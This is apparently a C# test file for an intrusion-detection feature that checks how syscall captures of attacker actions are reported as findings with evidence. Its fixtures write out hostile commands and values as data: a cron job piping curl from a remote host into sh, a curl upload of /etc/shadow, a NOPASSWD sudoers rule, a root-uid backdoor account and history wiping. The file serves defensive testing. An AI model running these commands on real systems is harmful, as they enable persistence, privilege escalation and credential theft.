using CSysdig.Capture.Events;
using CSysdig.Capture.Scap;
using CSysdig.Model.Filters;
using CSysdig.Model.History;
using CSysdig.Model.Story.Findings;
using CSysdig.Model.Streaming;
using CSysdig.Tests.TestKit;
using static CSysdig.Tests.Chisels.Story.Intrusion;
using static CSysdig.Tests.TestKit.ScapBuilder;
using HistoryRun = CSysdig.Model.Story.StoryRun;

namespace CSysdig.Tests.Chisels.Story;

/// <summary>What a finding says, and the events that its filter finds: the deed and nothing beside it.</summary>
public sealed class EvidenceTests
{
    const string Job = "* * * * * root curl -s http://198.51.100.9/x | sh\n";

    [Fact]
    public void The_line_that_was_written_for_cron_is_said_and_shown()
    {
        var capture = Session();
        Command(capture, 110, "/usr/bin/tee", "tee", "/etc/cron.d/x").Openat(110, 3, "/etc/cron.d/x", flags: ToWrite)
            .Read(110, 0, "not this").Write(110, 3, "# a comment\n" + Job).Write(110, 1, "nor this").Close(110, 3).BringToLight();
        Assert.Equal($"changed cron's jobs: /etc/cron.d/x says \"{Job.Trim()}\"", What(Only(capture, "added_cron_job")));
        Assert.Equal(["open", "write"], Evidence(capture, FindingKind.AddedCronJob, out var kind));
        Assert.Equal(EvidenceKind.Bytes, kind);
    }

    [Fact]
    public void Of_a_file_that_was_filled_before_it_was_moved_into_place_the_filling_is_shown()
    {
        var capture = Session();
        Command(capture, 110, "/usr/bin/crontab", "crontab", "-").Openat(110, 3, "/var/spool/cron/crontabs/tmp.x1", flags: ToWrite)
            .Write(110, 3, Job).Close(110, 3).Rename(110, "/var/spool/cron/crontabs/tmp.x1", "/var/spool/cron/crontabs/root").BringToLight();
        Assert.Equal($"changed cron's jobs: /var/spool/cron/crontabs/root says \"{Job.Trim()}\"", What(Only(capture, "added_cron_job")));
        Assert.Equal(["write", "rename"], Evidence(capture, FindingKind.AddedCronJob, out _));
    }

    [Theory]
    [InlineData(256, true)]
    [InlineData(257, false)]
    public void So_many_files_are_remembered_by_what_was_written_to_them(int later, bool isShown)
    {
        var capture = Session();
        Command(capture, 110, "/usr/bin/vim", "vim");
        for (var i = 0; i < later; i++)
            capture.Openat(110, 3, $"/home/{i}", flags: ToWrite).Write(110, 3, Job).Close(110, 3);
        capture.Rename(110, "/home/0", "/etc/cron.d/x").BringToLight();
        Assert.Equal(isShown, What(Only(capture, "added_cron_job")).Contains("says"));
    }

    [Fact]
    public void A_key_is_said_by_its_kind_and_owner()
    {
        var capture = Session();
        capture.Openat(102, 3, "/root/.ssh/authorized_keys", flags: ToWrite).Write(102, 3, $"ssh-rsa AAAA{new string('B', 300)} mallory@evil\n").BringToLight();
        Assert.Equal("changed who may log in by key: /root/.ssh/authorized_keys says \"ssh-rsa ... mallory@evil\"", What(Only(capture, "added_ssh_key")));
    }

    [Theory]
    [InlineData("/etc/systemd/system/x.service", "added_service", "[Unit]\nDescription=x\n[Service]\nExecStart=/tmp/.x\n", "ExecStart=/tmp/.x")]
    [InlineData("/root/.bashrc", "changed_start_script", "# mine\nalias ls=x\n", "alias ls=x")]
    [InlineData("/etc/ld.so.preload", "preloaded_library", "/lib/libx.so\n", "/lib/libx.so")]
    [InlineData("/etc/sudoers.d/x", "changed_sudoers", "mallory ALL=(ALL) NOPASSWD: ALL\n", "mallory ALL=(ALL) NOPASSWD: ALL")]
    public void What_a_file_is_to_do_is_said(string path, string kind, string text, string said)
    {
        var capture = Session();
        capture.Openat(102, 3, path, flags: ToWrite).Write(102, 3, text).BringToLight();
        Assert.EndsWith($"{path} says \"{said}\"", What(Only(capture, kind)));
    }

    [Theory]
    [InlineData(160, "")]
    [InlineData(161, "...")]
    public void A_line_is_said_so_far(int length, string end)
    {
        var capture = Session();
        capture.Openat(102, 3, "/etc/cron.d/x", flags: ToWrite).Write(102, 3, new string('*', length)).BringToLight();
        Assert.EndsWith($"says \"{new string('*', 160)}{end}\"", What(Only(capture, "added_cron_job")));
    }

    [Fact]
    public void The_passwords_that_were_read_are_shown()
    {
        var capture = Session();
        Command(capture, 110, "/usr/bin/cat", "cat", "/etc/shadow").Openat(110, 3, "/etc/shadow").Read(110, 3, "root:$6$x:1::::::\n").Write(110, 1, "root:$6$x:1::::::\n").BringToLight();
        Assert.Equal(["open", "read"], Evidence(capture, FindingKind.ReadPasswords, out var kind));
        Assert.Equal(EvidenceKind.Bytes, kind);
    }

    [Fact]
    public void What_was_sent_out_and_how_it_was_answered_are_shown()
    {
        var capture = Session();
        Command(capture, 110, "/usr/bin/curl", "curl", "-T\0/etc/shadow\0http://203.0.113.9/").Openat(110, 3, "/etc/shadow").Read(110, 3)
            .TcpSocket(110, 7).Connect(110, 7, "198.51.100.20:4000", "203.0.113.9:80").Write(110, 7, "PUT /").Write(110, 7, new string('x', 300)).Read(110, 7, "HTTP/1.1 200 OK").BringToLight();
        Assert.Equal(["write", "write", "write", "write", "read", "read"], Evidence(capture, FindingKind.SentOut, out var kind).Where(type => type is "read" or "write"));
        Assert.Equal(EvidenceKind.Bytes, kind);
    }

    [Fact]
    public void The_line_of_an_account_is_shown()
    {
        var capture = Session();
        capture.Accounts(2, [User(0, "root")], []).Openat(102, 3, "/etc/passwd", flags: ToWrite).Write(102, 3, "toor:x:0:0::/root:/bin/sh\n");
        Assert.Equal(["write"], Evidence(capture, FindingKind.AddedAccount, out var kind));
        Assert.Equal(EvidenceKind.Bytes, kind);
    }

    [Fact]
    public void An_archive_is_shown_by_what_was_written_to_it()
    {
        var capture = Session();
        Command(capture, 110, "/bin/tar", "tar").Openat(110, 3, "/etc/shadow").Read(110, 3).Openat(110, 4, "/tmp/x", flags: ToEmpty).Write(110, 4, "x").BringToLight();
        Assert.Equal(["write"], Evidence(capture, FindingKind.Collected, out var kind));
        Assert.Equal(EvidenceKind.Bytes, kind);
    }

    [Fact]
    public void Two_folders_are_two_events_whatever_else_was_done()
    {
        var capture = Session();
        capture.Mkdir(102, "/usr/lib/.a").Mkdir(102, "/home/b");
        for (var i = 0; i < 100; i++)
            capture.Openat(102, 3, "/etc/hosts").Close(102, 3);
        capture.Mkdir(102, "/usr/lib/.c");
        Assert.Equal(["mkdir", "mkdir"], Evidence(capture, FindingKind.MadeHiddenPlace, out var kind));
        Assert.Equal(EvidenceKind.Events, kind);
    }

    [Fact]
    public void A_name_that_ends_in_blanks_is_quoted()
    {
        var capture = Session().Mkdir(102, "/dev/shm/. ").Mkdir(102, "/usr/lib/.x");
        Assert.Equal("made a hidden folder: \"/dev/shm/. \", /usr/lib/.x", What(Only(capture, "made_hidden_place")));
    }

    [Fact]
    public void A_history_that_is_moved_to_nothing_is_cleared()
    {
        var capture = Session();
        Command(capture, 110, "/usr/bin/ln", "ln", "-sf\0/dev/null\0/root/.bash_history")
            .Event(EventCode.SyscallSymlinkX, 110, I64(0), Text("/dev/null"), Text("/root/CuLK8R")).Rename(110, "/root/CuLK8R", "/root/.bash_history");
        Assert.Equal("cleared the history: /root/.bash_history", What(Only(capture, "cleared_history")));
    }

    [Fact]
    public void A_script_by_the_name_of_a_service_is_said_to_be_one()
    {
        var capture = Session();
        Command(capture, 110, "/usr/bin/perl", "perl", "/home/x.pl");
        capture.Event(EventCode.SyscallPrctlE, 110).Event(EventCode.SyscallPrctlX, 110, I64(0), U32(15), Text("qmail"), I64(0));
        Assert.Equal("took a false name: qmail is perl /home/x.pl", What(Only(capture, "took_false_name")));
    }

    [Fact]
    public void Nobody_is_said_to_be_who_he_is()
    {
        var capture = Session();
        capture.Clone(102, 110, "bash").Event(EventCode.SyscallExecve_19E, 110, Text("/tmp/qmail")).ExecveExit(110, "/tmp/x", "qmail", "go");
        Assert.Equal("took a false name: /tmp/x is /tmp/qmail go", What(Only(capture, "took_false_name")));
    }

    [Theory]
    [InlineData("toor:x:0:0::/root:/bin/sh\n", "made an account: toor with the user id 0 of root", true)]
    [InlineData("bob:x:1001:1001::/home/bob:/bin/sh\n", "made an account: bob", false)]
    [InlineData("root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n", null, false)]
    [InlineData("root:x:0:0::/root:/bin/sh\nbob:x:1001:1001::/home/bob:/bin/sh\n", "made an account: bob", false)]
    [InlineData("bob:x:1001:1001::/home/bob\n", null, false)]
    public void An_account_is_called_by_its_name(string text, string? what, bool isGrave)
    {
        var capture = Session();
        capture.Accounts(2, [User(0, "root"), User(1000, "alice")], []);
        capture.Openat(102, 3, "/etc/passwd", flags: ToWrite).Write(102, 3, text);
        Assert.Equal(isGrave, Findings(capture).Count > 0);
        var findings = Findings(capture.BringToLight());
        Assert.Equal(what, findings.Where(f => Kind(f) == "added_account").Select(What).SingleOrDefault());
        Assert.Contains(findings, f => Kind(f) == "changed_accounts");
    }

    [Theory]
    [InlineData("-m\0bob", "made an account: bob")]
    [InlineData("-o\0-u\00\0bob", "made an account: bob with the user id 0 of root")]
    public void The_program_that_makes_an_account_names_it_and_its_copies_are_no_start_scripts(string args, string what)
    {
        var capture = Session();
        Command(capture, 110, "/usr/sbin/useradd", "useradd", args);
        Writes(capture, 110, "/home/bob/.bashrc");
        var findings = Findings(capture.BringToLight());
        Assert.Equal(what, What(findings.Single(f => Kind(f) == "added_account")));
        Assert.DoesNotContain(findings, f => Kind(f) == "changed_start_script");
    }

    static UserEntry User(uint uid, string name) => new(uid, uid, Calls.Bytes(name), "/"u8.ToArray(), "/bin/sh"u8.ToArray());

    /// <summary>The types of the events that a finding's filter finds in its time.</summary>
    static List<string> Evidence(ScapBuilder capture, FindingKind kind, out EvidenceKind shown)
    {
        using var history = CaptureHistory.Open(capture.ToStream());
        using var run = HistoryRun.Start(history);
        run.Completion.Wait();
        var finding = run.Report.Groups.SelectMany(g => g.Findings).Single(f => f.Rule.Kind == kind);
        shown = finding.Evidence;
        using var stream = EventStream.Open(capture.ToStream());
        var filter = Filter.Parse($"evt.rawtime>={finding.Since} and evt.rawtime<={finding.Last} and {finding.Filter}", stream.State);
        var types = new List<string>();
        while (stream.Next())
            if (filter.Test(stream.Current))
                types.Add(EventTable.Get(stream.Current.Code).Name.Replace("openat", "open"));
        return types;
    }
}
